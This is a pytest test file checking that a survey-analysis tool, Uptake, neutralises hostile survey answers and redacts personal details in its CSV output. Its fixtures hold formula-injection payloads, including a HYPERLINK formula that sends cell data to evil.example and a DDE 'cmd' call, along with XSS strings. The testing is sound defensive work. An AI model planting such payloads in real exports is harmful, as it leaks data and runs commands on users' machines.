"""A survey that means harm, from its export to what Uptake writes: kept as text, computed and run by nobody."""

import csv
import gzip
import io

import pytest

from tests.conftest import Site

SITE = '[[source]]\nname = "s"\nkind = "survey"\npath = "exports"\nmapping = "survey.toml"\n'
MAPPING = """
coding = "coding.toml"
[respondent]
respondent = "Mail"
role = "Role"
team = "Team"
names = "Name"
[[wave]]
id = "w"
title = "=cmd()"
files = ["w.csv"]
opened_at = 2026-03-01
[scales.slow]
min = 1
max = 5
[[question]]
id = "slow"
columns = ["Slow?"]
kind = "rating"
scale = "slow"
pain = "slow"
[[question]]
id = "more"
columns = ["More?"]
kind = "text"
coded = true
[[pain]]
id = "slow"
title = "<img src=x onerror=alert(1)>"
"""
SAID = [
    '=HYPERLINK("http://evil.example/?"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3 is slow",
    "@SUM(A1)",
    "\t=1+1",
    "\rslow =1",
    "<script>alert('slow')</script>",
    "a\0slow\u202eb\u2066",
    "slow " * 200_000,
    "Zelda Quux (zelda@quux.example, +31 6 1234 5678) says it is slow",
]


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Site:
    site = Site(tmp_path_factory.mktemp("hostile"))
    site.config.write_text(SITE)
    (site.folder / "survey.toml").write_text(MAPPING)
    (site.folder / "coding.toml").write_text('[[code]]\npain = "slow"\nterms = ["slow"]\n')
    out = io.StringIO()
    rows = csv.writer(out)
    rows.writerow(["Mail", "Name", "Role", "Team", "Slow?", "More?"])
    for number, said in enumerate(SAID):
        rows.writerow([f"p{number}@x.example", "Zelda Quux", "=role()", "@team", 1 + number % 5, said])
    site.export("w.csv", out.getvalue())
    site.ingest()
    return site


def cells(site: Site, *question: str) -> list[str]:
    done = site.uptake(*question, "--format", "csv")
    assert done.exit_code == 0, done.output
    return [cell for row in csv.reader(io.StringIO(done.stdout, newline="")) for cell in row]


QUESTIONS = [
    ("metric", "quotes"),
    ("metric", "mentions"),
    ("metric", "pain", "--group", "role"),
    ("metric", "pain_overlap"),
    ("metric", "survey_response", "--group", "team_id"),
]


@pytest.mark.parametrize("question", QUESTIONS, ids=" ".join)
def test_no_spreadsheet_computes_what_was_said(hostile: Site, question: tuple[str, ...]) -> None:
    found = cells(hostile, *question)
    assert len(found) > 10
    for cell in found:
        try:
            float(cell)
        except ValueError:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell[:80]


def test_it_is_quoted_as_it_was_said_and_names_nobody(hostile: Site) -> None:
    quotes = "\n".join(cells(hostile, "metric", "quotes"))
    assert "<script>alert('slow')</script>" in quotes
    assert "aslowb" in quotes
    assert "[name] ([e-mail], [phone]) says it is slow" in quotes
    assert "… [cut]" in quotes and max(map(len, quotes.splitlines())) < 10_100
    assert not {"Zelda", "Quux", "evil.example", "1234"} & set(quotes.replace("(", " ").split())
    shown = hostile.uptake("metric", "quotes").output
    # a terminal is not to be told to do things
    assert all(char.isprintable() or char == "\n" for char in shown)


def test_nothing_of_it_is_on_the_disk(hostile: Site) -> None:
    for path in hostile.data.rglob("*.gz"):
        written = gzip.decompress(path.read_bytes()).decode()
        for secret in ("Zelda", "Quux", "evil.example", "x.example", "\\u0000", "\u202e"):
            assert secret not in written, secret
